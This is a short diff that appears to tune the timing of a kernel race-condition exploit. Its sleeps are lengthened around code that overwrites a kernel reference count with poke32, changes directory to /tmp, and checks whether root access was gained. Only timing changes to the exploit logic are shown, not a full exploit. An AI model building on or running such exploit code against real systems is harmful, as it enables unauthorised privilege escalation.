@@ -14,7 +14,7 @@ static inline _Bool is_led_away(void)
 {
 	char now[16] = { 0 };
 
-	sleep_milliseconds(60);
+	sleep_milliseconds(600);
 	return is_root() && call2(__NR_getcwd, (long)now, sizeof(now)) > 0 &&
 	       text_equal(now, "/tmp");
 }
@@ -28,7 +28,7 @@ static bool leads_away(bool alone)
 	if (alone)
 		poke32(context + member("file_context.references"), 1);
 	start_go();
-	sleep_milliseconds(30);
+	sleep_milliseconds(300);
 	call1(__NR_chdir, (long)"/tmp");
 	if (alone)
 		poke32(context + member("file_context.references"), 2);
